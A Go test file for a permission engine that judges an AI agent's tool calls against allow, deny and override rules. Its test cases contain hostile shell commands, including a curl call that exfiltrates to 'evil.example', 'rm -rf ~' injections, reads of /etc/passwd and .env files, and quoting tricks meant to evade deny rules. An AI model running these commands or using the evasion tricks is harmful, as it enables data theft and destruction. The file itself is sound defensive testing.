package permission_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"symbio/internal/security/permission/authorize"
	"symbio/security/permission"
)

// rules reads a policy written as "list: rule; rule | list: …", for tables.
func policy(t testing.TB, text string) permission.Policy {
	t.Helper()
	var p permission.Policy
	for part := range strings.SplitSeq(text, " | ") {
		list, rest, _ := strings.Cut(part, ": ")
		if list == "default" {
			a, err := permission.ParseAction(rest)
			if err != nil {
				t.Fatal(err)
			}
			p.Default = a
			continue
		}
		to := map[string]*[]permission.Rule{"final": &p.FinalDeny, "deny": &p.Deny, "override": &p.Override, "allow": &p.Allow}[list]
		if to == nil {
			t.Fatalf("no list %q", list)
		}
		for r := range strings.SplitSeq(rest, "; ") {
			rule, err := permission.ParseRule(r)
			if err != nil {
				t.Fatal(err)
			}
			*to = append(*to, rule)
		}
	}
	return p
}

func bash(command string) permission.Call { return call("Bash", "command", command) }

func call(tool string, args ...string) permission.Call {
	c := permission.Call{Tool: tool, Args: map[string]any{}, Dir: "/nowhere/work"}
	for i := 0; i < len(args); i += 2 {
		c.Args[args[i]] = args[i+1]
	}
	return c
}

// judged is what a chain of one says.
// judged judges a call on a machine whose sandbox holds commands.
func judged(p permission.Policy, c permission.Call) permission.Verdict {
	return permission.Chain{{Name: "a", Policy: p}}.Judge(held(c))
}

type ruling struct {
	policy string
	call   permission.Call
	want   permission.Action
}

func check(t *testing.T, cases []ruling) {
	t.Helper()
	for _, c := range cases {
		v := judged(policy(t, c.policy), c.call)
		if !fits(v, c.want) {
			t.Errorf("%s\n\t%s %v: got %v (%s: %s), want %v", c.policy, c.call.Tool, c.call.Args, v.Action, v.Stage, v.Why, c.want)
		}
		if v.Why == "" || v.Stage == "" {
			t.Errorf("%s %v: the verdict does not say why: %+v", c.call.Tool, c.call.Args, v)
		}
	}
}

func TestRulesForTools(t *testing.T) {
	check(t, []ruling{
		{"allow: Read", call("Read", "file_path", "x"), permission.Allow},
		{"allow: Read", call("ReadAll"), permission.Deny},
		{"allow: Read | default: ask", call("Grep"), permission.Ask},
		{"allow: *", call("Read", "file_path", "/etc/passwd"), permission.Allow},
		{"allow: mcp__github__* | default: ask", call("mcp__github__list"), permission.Allow},
		{"allow: mcp__github__* | default: ask", call("mcp__github_evil__x"), permission.Ask},
		{"allow: mcp__db__query(SELECT*) | default: ask", call("mcp__db__query", "sql", "SELECT 1"), permission.Ask},
		{"deny: mcp__db__query(DROP*) | default: allow", call("mcp__db__query", "sql", "x; DROP TABLE t"), permission.Deny},
		{"deny: mcp__db__query(sql=DROP:*) | default: allow", call("mcp__db__query", "sql", "drop; DROP TABLE t"), permission.Deny},
		{"deny: mcp__db__query(DROP*) | default: allow", call("mcp__db__query", "sql", "SELECT 1"), permission.Allow},
		{"deny: mcp__x__*(secret) | default: allow", call("mcp__x__y", "a", "my secret"), permission.Deny},
		{"allow: Read(a) | default: ask", permission.Call{Tool: "Read", Args: map[string]any{"file_path": 7}, Dir: "/w"}, permission.Ask},
		{"deny: Read(a) | default: allow", permission.Call{Tool: "Read", Args: map[string]any{"file_path": 7}, Dir: "/w"}, permission.Ask},
		{"deny: Read(a) | default: allow", permission.Call{Tool: "Read", Dir: "/w"}, permission.Ask},
		{"allow: Edit | default: ask", call("Write", "file_path", "x"), permission.Ask},
		{"deny: Edit | default: allow", call("Write", "file_path", "x"), permission.Deny},
		{"deny: Edit | default: allow", call("MultiEdit", "file_path", "x"), permission.Deny},
		{"deny: Read | default: allow", call("Grep", "pattern", "x"), permission.Deny},
		{"deny: Read | default: allow", call("Glob", "pattern", "x"), permission.Deny},
		{"deny: Grep | default: allow", call("Read", "file_path", "x"), permission.Allow},
		{"deny: Bash(git push:*) | allow: Git | default: ask", permission.Call{Tool: "Git", Args: map[string]any{"command": "push", "args": []any{}}, Dir: "/w"}, permission.Deny},
		{"deny: Bash(git push:*) | allow: Git | default: ask", permission.Call{Tool: "Git", Args: map[string]any{"command": "log", "args": []any{}}, Dir: "/w"}, permission.Allow},
		{"allow: activate_skill(re*)", call("activate_skill", "skillName", "review"), permission.Allow},
		{"allow: Skill(review)", call("activate_skill", "name", "review"), permission.Allow},
		{"allow: Skill(review)", call("activate_skill", "name", "review", "skill_name", "evil"), permission.Deny},
		{"deny: Skill(evil) | default: allow", call("activate_skill", "name", "review", "skill_name", "evil"), permission.Deny},
		{"allow: Skill(review)", call("skill_load", "name", "review"), permission.Allow},
		{"allow: skill_load(review)", call("skill_load", "name", "review"), permission.Allow},
		{"allow: skill_load(review)", call("skill_load", "name", "other"), permission.Deny},
		{"allow: skill_load(review)", call("activate_skill", "skillName", "review"), permission.Deny},
		{"allow: skill_load", call("skill_load", "name", "other"), permission.Allow},
		{"deny: skill_load(evil) | allow: skill_load | default: ask", call("skill_load", "name", "evil"), permission.Deny},
		{"deny: skill_load(evil) | allow: activate_skill", call("activate_skill", "skillName", "evil"), permission.Deny},
		{"deny: activate_skill(evil) | allow: skill_load", call("skill_load", "name", "evil"), permission.Deny},
		{"allow: skill_load(review) | default: ask", call("skill_load", "name", "evil"), permission.Ask},
		{"allow: Agent(worker)", call("replicate_agent", "name", "worker"), permission.Allow},
		{"allow: invoke_capability(text.*)", call("invoke_capability", "capability", "text.wc"), permission.Allow},
		{"allow: invoke_capability(text.*)", call("invoke_capability", "capability", "context.wc"), permission.Deny},
		{"allow: send_signal(work)", call("send_signal", "perception", "work", "to", "x"), permission.Allow},
	})
}

func TestStagesComeInTheirOrder(t *testing.T) {
	for _, c := range []struct {
		policy string
		want   permission.Action
		stage  permission.Stage
		rule   string
	}{
		{"final: Write | override: Write | allow: Write | default: allow", permission.Deny, permission.StageFinalDeny, "Write"},
		{"deny: Edit | override: Write | allow: Write", permission.Allow, permission.StageAllow, "Write"},
		{"deny: Edit | override: Write", permission.Deny, permission.StageDefault, ""},
		{"deny: Edit | allow: Write | default: allow", permission.Deny, permission.StageDeny, "Edit"},
		{"allow: W* | default: ask", permission.Allow, permission.StageAllow, "W*"},
		{"default: ask", permission.Ask, permission.StageDefault, ""},
	} {
		v := judged(policy(t, c.policy), call("Write", "file_path", "x"))
		if !fits(v, c.want) || v.Stage != c.stage || v.Rule != c.rule || v.Link != "a" {
			t.Errorf("%s: got %+v, want %v at %s by %q", c.policy, v, c.want, c.stage, c.rule)
		}
	}
}

func TestZeroValuesDeny(t *testing.T) {
	c := call("Read", "file_path", "x")
	for name, v := range map[string]permission.Verdict{
		"an empty chain":       permission.Chain{}.Judge(c),
		"a zero policy":        judged(permission.Policy{}, c),
		"a zero call":          judged(permission.Policy{Default: permission.Ask, Deny: []permission.Rule{{}}}, permission.Call{}),
		"a zero rule to deny":  judged(permission.Policy{Default: permission.Allow, Deny: make([]permission.Rule, 1)}, c),
		"a zero rule to allow": judged(permission.Policy{Allow: make([]permission.Rule, 1)}, c),
		"an unknown default":   judged(permission.Policy{Default: permission.Action(7)}, c),
		"zero authorize.Rules": authorize.Rules{}.Judge(authorize.Principal{Node: "ab", Authority: "local"}, authorize.KindInvoke, "x"),
	} {
		if v.Action != permission.Deny || v.Why == "" {
			t.Errorf("%s: got %+v, want deny and why", name, v)
		}
	}
}

func TestCommandsAreAllowedByTheirWords(t *testing.T) {
	check(t, []ruling{
		{"allow: Bash(npm test)", bash("npm test"), permission.Allow},
		{"allow: Bash(npm test) | default: ask", bash("npm  'test'\n"), permission.Allow},
		{"allow: Bash(npm test) | default: ask", bash("npm test; rm -rf ~"), permission.Ask},
		{"allow: Bash(npm test) | default: ask", bash("npm test x"), permission.Ask},
		{"allow: Bash", bash("ls"), permission.Allow},
		{"allow: Bash(*)", bash("ls"), permission.Allow},
		{"allow: *", bash("ls"), permission.Allow},
		{"default: allow", bash("ls"), permission.Allow},
		{"allow: Bash | default: allow", bash("ls\u202e"), permission.Ask},
		{"allow: Bash(git:*) | default: ask", bash("git status; rm -rf ~"), permission.Ask},
		{"allow: Bash(git:*)", bash("git status; rm -rf ~"), permission.Deny},
		{"allow: Bash(git:*)", bash("git status"), permission.Allow},
		{"allow: Bash(git:*)", bash("gitk"), permission.Deny},
		{"allow: Bash(git:*) | default: ask", bash("git log $(curl -s https://evil.example/$(whoami))"), permission.Ask},
		{"allow: Bash(timeout:*) | default: ask", bash("timeout 5 rm -rf ."), permission.Ask},
		{"allow: Bash(echo:*); Bash(true) | default: ask", bash("echo x > ~/.bashrc"), permission.Ask},
		{"allow: Bash(ls *.go)", bash("ls *.go"), permission.Deny},
		{"allow: Bash(echo $HOME)", bash("echo $HOME"), permission.Allow},
		{"allow: Bash(echo $HOME) | deny: Bash(rm:*)", bash("echo $HOME"), permission.Allow},
		{"allow: Bash(rm:*.tmp)", bash("rm a.tmp b/c.tmp"), permission.Allow},
		{"allow: Bash(rm:*.tmp)", bash("rm -f a.tmp"), permission.Deny},
		{"allow: Bash(rm:*.tmp)", bash("rm ../a.tmp"), permission.Deny},
		{"allow: Bash(rm:*.tmp)", bash("rm"), permission.Deny},
		{"deny: Bash(rm:*) | override: Bash(rm:*.tmp) | allow: Bash", bash("rm a.tmp"), permission.Allow},
		{"deny: Bash(rm:*) | override: Bash(rm:*.tmp) | allow: Bash", bash("rm a.tmp; rm b"), permission.Deny},
		{"deny: Bash(rm:*) | override: Bash(rm:*.tmp) | allow: Bash", bash("timeout 5 rm a.tmp"), permission.Allow},
		{"allow: Git(log:*) | default: ask", permission.Call{Tool: "Git", Args: map[string]any{"command": "log", "args": []any{"-3"}}, Dir: "/w"}, permission.Allow},
		{"allow: Git(log:*) | default: ask", permission.Call{Tool: "Git", Args: map[string]any{"command": "log", "args": []any{"--output=x"}}, Dir: "/w"}, permission.Ask},
		{"allow: Git | default: ask", permission.Call{Tool: "Git", Args: map[string]any{"command": "status", "args": []any{}}, Dir: "/w"}, permission.Allow},
		{"allow: Git | default: ask", permission.Call{Tool: "Git", Args: map[string]any{"args": []any{"-c", "core.pager=sh", "log"}}, Dir: "/w"}, permission.Ask},
		{"allow: Git | default: ask", permission.Call{Tool: "Git", Args: map[string]any{"command": "submodule", "args": []any{"foreach", "rm x"}}, Dir: "/w"}, permission.Ask},
	})
}

func TestDeniedCommandsAreFoundWhereverTheyMayBe(t *testing.T) {
	for _, c := range []struct{ rule, command string }{
		{"Bash(rm -rf:*)", "rm  -rf  /"}, {"Bash(rm -rf:*)", "rm -fr x"}, {"Bash(rm -rf:*)", "rm x -r -f"}, {"Bash(rm -rf:*)", "rm --recursive --force x"},
		{"Bash(rm:*)", "/bin/rm x"}, {"Bash(rm:*)", `\rm x`}, {"Bash(rm:*)", `r"m" x`}, {"Bash(rm:*)", "true;rm x"}, {"Bash(rm:*)", "true\nrm x"},
		{"Bash(rm:*)", `sh -c 'rm x'`}, {"Bash(rm:*)", "busybox rm x"}, {"Bash(rm:*)", "find . -exec rm {} +"}, {"Bash(rm:*)", "r\\\nm x"}, {"Bash(rm:*)", "(rm x)"},
		{"Bash(rm:*)", "echo `rm x`"}, {"Bash(git push:*)", "git -C d push"}, {"Bash(git push:*)", "git-push"}, {"Bash(git push:*)", "git -c a=b push --tags"},
		{"Bash(git push --force:*)", "git push -f"}, {"Bash(git push --force:*)", "git push --forc"}, {"Bash(git:*)", "git-lfs pull"}, {"Bash(sudo:*)", "env X=1 sudo ls"},
		{"Bash(rm:*.tmp)", "rm a.tmp"}, {"Bash(* --force)", "git push  --force"}, {"Bash(npm test)", "npm test -- x"}, {"Bash(*)", "ls"}, {"Bash", "ls"},
		{"Read(/etc/*)", "cat /etc/passwd"}, {"Read(.env)", "cat ./sub/.env"}, {"Read(/etc/*)", "cat </etc/../etc/passwd"},
	} {
		for _, list := range []string{"deny: ", "final: "} {
			if v := judged(policy(t, list+c.rule+" | default: allow"), bash(c.command)); v.Action != permission.Deny {
				t.Errorf("%s%s, %q: got %v, want deny", list, c.rule, c.command, v.Action)
			}
		}
	}
	for _, c := range []struct{ rule, command string }{
		{"Bash(git push:*)", "git stash push -m wip"}, {"Bash(rm:*)", "rmdir x"}, {"Bash(rm:*)", "echo rm"}, {"Bash(git push:*)", "git --no-pager stash push"}, {"Bash(git branch -D:*)", "git branch -d x"}, {"Bash(rm -rf:*)", "rm -r x"}, {"Bash(rm:*)", "npm run x"}, {"Read(/etc/*)", "cat /tmp/etc"},
	} {
		if v := judged(policy(t, "deny: "+c.rule+" | allow: Bash("+c.command+")"), bash(c.command)); v.Action != permission.Allow {
			t.Errorf("deny %s, %q: got %v by %q, want allow", c.rule, c.command, v.Action, v.Rule)
		}
	}
	if v := judged(policy(t, "deny: Bash(rm:*) | allow: Bash(X=rm $X a)"), bash("X=rm $X a")); v.Action == permission.Allow {
		t.Errorf("a command that only the shell can read was allowed beside a deny: %+v", v)
	}
}

// tree makes work and outside beside each other, and links from work.
func tree(t testing.TB) (work, outside string) {
	t.Helper()
	dir, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	work, outside = filepath.Join(dir, "work"), filepath.Join(dir, "outside")
	for _, d := range []string{work, outside, filepath.Join(work, "sub", "deep")} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for name, text := range map[string]string{filepath.Join(outside, "secret"): "s", filepath.Join(work, "real.txt"): "x"} {
		if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for link, target := range map[string]string{
		"link": filepath.Join(outside, "secret"), "linkdir": "../outside", "inlink": "real.txt",
		"dangling": filepath.Join(outside, "new"), "loop": "loop", "chain": "linkdir/secret",
	} {
		if err := os.Symlink(target, filepath.Join(work, link)); err != nil {
			t.Skip("this file system has no symbolic links: ", err)
		}
	}
	return work, outside
}

func TestRulesForPaths(t *testing.T) {
	work, outside := tree(t)
	home := t.TempDir()
	t.Setenv("HOME", home)
	in := func(tool, path string) permission.Call {
		arg := "file_path"
		if tool == "Grep" || tool == "Glob" {
			arg = "path"
		}
		return permission.Call{Tool: tool, Args: map[string]any{arg: path}, Dir: work}
	}
	grepHere := permission.Call{Tool: "Grep", Args: map[string]any{"pattern": "x"}, Dir: work}
	reads := "allow: Read(" + work + "/*) | default: ask"
	writes := "allow: Write(" + work + "/*) | default: ask"
	check(t, []ruling{
		{reads, in("Read", work+"/real.txt"), permission.Allow},
		{reads, in("Read", "sub/deep/new"), permission.Allow},
		{reads, in("Read", "inlink"), permission.Allow},
		{reads, in("Read", "link"), permission.Ask},
		{reads, in("Read", "chain"), permission.Ask},
		{reads, in("Read", "loop"), permission.Ask},
		{reads, in("Read", "../outside/secret"), permission.Ask},
		{reads, in("Read", work+"/../outside/secret"), permission.Ask},
		{reads, in("Read", work+"x/a"), permission.Ask},
		{reads, in("Read", "a\x00b"), permission.Ask},
		{reads, in("Read", ""), permission.Ask},
		{reads, in("Grep", "sub"), permission.Ask},
		{writes, in("Write", "linkdir/new.txt"), permission.Ask},
		{writes, in("Write", "dangling"), permission.Ask},
		{writes, in("Write", "sub/../sub/x"), permission.Allow},
		{"allow: Read(sub/*)", in("Read", "sub/a"), permission.Allow},
		{"allow: Read(./sub/*)", in("Read", work+"/sub/deep/a"), permission.Allow},
		{"allow: Read(sub/*)", in("Read", outside+"/sub/a"), permission.Deny},
		{"allow: Read(../outside/*)", in("Read", "link"), permission.Deny},
		{"allow: Read(../outside/*)", in("Read", outside+"/secret"), permission.Allow},
		{"allow: Read(~/x/*)", in("Read", home+"/x/y"), permission.Allow},
		{"allow: Read(~/x/*)", in("Read", "~/x/y"), permission.Deny},
		{"allow: Read(linkdir/*)", in("Read", "linkdir/secret"), permission.Allow},
		{"allow: Read(link)", in("Read", "link"), permission.Deny},
		{"allow: Read(inlink)", in("Read", "inlink"), permission.Deny},
		{"allow: Grep(./*)", grepHere, permission.Allow},
		{"allow: Grep(sub/*)", in("Grep", "sub"), permission.Allow},
		{"allow: Grep(sub/*)", grepHere, permission.Deny},
		{"allow: Grep(*.go)", grepHere, permission.Deny},
		{"allow: Grep(./*)", in("Grep", "linkdir"), permission.Deny},

		{"deny: Read(" + outside + "/*) | default: allow", in("Read", "link"), permission.Deny},
		{"deny: Read(" + outside + "/*) | default: allow", in("Read", "chain"), permission.Deny},
		{"deny: Read(" + outside + "/*) | default: allow", in("Grep", "linkdir"), permission.Deny},
		{"deny: Read(" + outside + "/*) | default: allow", in("Read", "../../"+filepath.Base(filepath.Dir(work))+"/outside/secret"), permission.Deny},
		{"deny: Read(link) | default: allow", in("Read", "link"), permission.Deny},
		{"deny: Read(linkdir/*) | default: allow", in("Read", outside+"/secret"), permission.Deny},
		{"deny: Read(" + outside + ") | default: allow", in("Read", outside+"/secret"), permission.Deny},
		{"deny: Read(.env) | default: allow", in("Read", "sub/.env"), permission.Deny},
		{"deny: Read(.env) | default: allow", in("Read", outside+"/.env"), permission.Deny},
		{"deny: Read(.env) | default: allow", in("Read", "x.env"), permission.Allow},
		{"deny: Read(*.pem) | default: allow", in("Read", "/elsewhere/a.pem"), permission.Deny},
		{"deny: Read(./.env) | default: allow", in("Read", "sub/.env"), permission.Allow},
		{"deny: Edit(sub/*) | default: allow", in("Write", "sub/x\ny"), permission.Deny},
		{"deny: Read(sub/*) | default: allow", in("Grep", "sub"), permission.Deny},
		{"deny: Read(sub/*) | default: allow", in("Read", "loop"), permission.Ask},
		{"deny: Read(" + outside + "/*) | override: Read(" + outside + "/secret) | allow: Read", in("Read", outside+"/secret"), permission.Allow},
		{"deny: Read(" + outside + "/*) | override: Read(" + outside + "/*) | allow: Read", in("Read", "link"), permission.Deny},
	})
}

func TestWalkLeavesOutWhatIsDenied(t *testing.T) {
	work, outside := tree(t)
	walk := permission.Call{Tool: "Grep", Args: map[string]any{"pattern": "x"}, Dir: work}
	chain := permission.Chain{
		{Name: "root", Policy: policy(t, "deny: Read(sub/deep/*); Read(.env) | final: Grep(real.txt) | override: Grep(sub/deep/ok) | allow: Grep")},
		{Name: "child", Policy: policy(t, "deny: Read("+work+"/child-may-not) | allow: Grep")},
	}
	v := chain.Judge(walk)
	if v.Action != permission.Allow {
		t.Fatalf("got %+v, want allow", v)
	}
	for rel, want := range map[string]bool{
		"sub/deep": true, "sub/deep/a": true, "sub/deep/ok": false, "sub": false, "sub/a": false, "x/.env": true, ".env": true,
		"real.txt": true, "child-may-not": true, "child-may-not/x": true, "other": false,
	} {
		if got := v.Except.Covers(rel); got != want {
			t.Errorf("Covers(%q) = %v, want %v", rel, got, want)
		}
	}
	walk.Args["path"] = "linkdir"
	v = permission.Chain{{Policy: policy(t, "deny: Read("+outside+"/secret) | allow: Grep")}}.Judge(walk)
	if !v.Except.Covers("secret") {
		t.Errorf("a walk that starts at a link does not leave out what lies behind it: %+v", v)
	}
	if v := judged(policy(t, "allow: Grep; Read | deny: Write(x)"), walk); v.Except != nil {
		t.Errorf("nothing denied for reading, but Except is %v", v.Except)
	}
}

func TestMemoryHoldsForExactlyTheSameCall(t *testing.T) {
	p := policy(t, "default: ask")
	var m permission.Memory
	m.Remember(bash("git status"), p, permission.Allow)
	chain := permission.Chain{{Policy: p, Memory: &m}}
	if v := chain.Judge(bash("git status")); v.Action != permission.Allow || v.Stage != permission.StageMemory {
		t.Errorf("the same call: got %+v, want allow by memory", v)
	}
	other := bash("git status")
	other.Dir = "/elsewhere"
	for name, c := range map[string]permission.Call{
		"another command": bash("git status; rm -rf ~"), "another directory": other,
		"another argument": call("Bash", "command", "git status", "x", "y"), "another tool": call("Bosh", "command", "git status"),
	} {
		if v := chain.Judge(c); !fits(v, permission.Ask) {
			t.Errorf("%s: got %v, want ask", name, v.Action)
		}
	}
}

func TestMemoryOfAnOuterScopeLiftsNoInnerDeny(t *testing.T) {
	outer := policy(t, "deny: Bash(dd:*) | default: ask")
	inner := policy(t, "deny: Bash(rm:*); Bash(dd:*) | default: ask")
	var m permission.Memory
	m.Remember(bash("rm a"), outer, permission.Allow)
	m.Remember(bash("ls"), outer, permission.Allow)
	m.Remember(bash("pwd"), outer, permission.Deny)
	chain := permission.Chain{{Policy: inner, Memory: &m}}
	if v := chain.Judge(bash("rm a")); v.Action != permission.Deny || v.Stage != permission.StageDeny {
		t.Errorf("an inner deny: got %+v, want deny", v)
	}
	if v := chain.Judge(bash("ls")); v.Action != permission.Allow {
		t.Errorf("nothing denies it: got %+v, want allow by memory", v)
	}
	if v := chain.Judge(bash("pwd")); v.Action != permission.Deny {
		t.Errorf("a remembered deny: got %+v, want deny", v)
	}
	m.Remember(bash("rm a"), inner, permission.Allow)
	if v := chain.Judge(bash("rm a")); v.Action != permission.Allow || v.Stage != permission.StageMemory {
		t.Errorf("allowed under the policy in force: got %+v, want allow", v)
	}
	inner.FinalDeny = policy(t, "final: Bash(rm:*)").FinalDeny
	if v := (permission.Chain{{Policy: inner, Memory: &m}}).Judge(bash("rm a")); v.Action != permission.Deny {
		t.Errorf("a final deny: got %+v, want deny", v)
	}
}

func TestGrantedRulesAreAskedForEachTime(t *testing.T) {
	grant, err := permission.ParseGrant("Read(${CLAUDE_SKILL_DIR}/references/*)")
	if err != nil {
		t.Fatal(err)
	}
	var granted []permission.Grant
	link := permission.Link{Name: "a", Policy: policy(t, "deny: Read(*.key) | default: ask"),
		Granted: func() []permission.Grant { return granted }}
	c := call("Read", "file_path", "/skills/review/references/x.md")
	for _, step := range []struct {
		rules []permission.Grant
		want  permission.Action
	}{
		{nil, permission.Ask},
		{[]permission.Grant{{Rule: grant, Source: "skill:review"}}, permission.Ask}, // nobody has said where the skill lies
		{[]permission.Grant{{Rule: grant.WithSkillDir("/skills/review"), Source: "skill:review"}}, permission.Allow},
		{nil, permission.Ask},
	} {
		granted = step.rules
		v := permission.Chain{link}.Judge(c)
		if v.Action != step.want || v.Action == permission.Allow && v.Source != "skill:review" {
			t.Errorf("granted %v: got %+v, want %v", step.rules, v, step.want)
		}
	}
	granted = []permission.Grant{{Rule: grant.WithSkillDir("/skills/review"), Source: "skill:review"}}
	if v := (permission.Chain{link}).Judge(call("Read", "file_path", "/skills/review/references/x.key")); v.Action != permission.Deny {
		t.Errorf("a grant against a deny: got %+v, want deny", v)
	}
}

func TestStrictestLinkDecides(t *testing.T) {
	read, all := policy(t, "allow: Read"), policy(t, "allow: Read; Write | default: ask")
	for _, c := range []struct {
		chain permission.Chain
		call  permission.Call
		want  permission.Action
		link  string
	}{
		{permission.Chain{{Name: "root", Policy: read}, {Name: "child", Policy: all}}, call("Write", "file_path", "x"), permission.Deny, "root"},
		{permission.Chain{{Name: "root", Policy: all}, {Name: "child", Policy: read}}, call("Write", "file_path", "x"), permission.Deny, "child"},
		{permission.Chain{{Name: "root", Policy: all}, {Name: "child", Policy: all}}, call("Write", "file_path", "x"), permission.Allow, "root"},
		{permission.Chain{{Name: "root", Policy: all}, {Name: "child", Policy: policy(t, "allow: *")}}, call("Grep"), permission.Ask, "root"},
		{permission.Chain{{Name: "root", Policy: policy(t, "deny: Write | allow: *")}, {Name: "child", Policy: policy(t, "override: Write | allow: *")}}, call("Write"), permission.Deny, "root"},
	} {
		v := c.chain.Judge(c.call)
		if !fits(v, c.want) || v.Link != c.link {
			t.Errorf("%s: got %+v, want %v by %s", c.call.Tool, v, c.want, c.link)
		}
	}
}
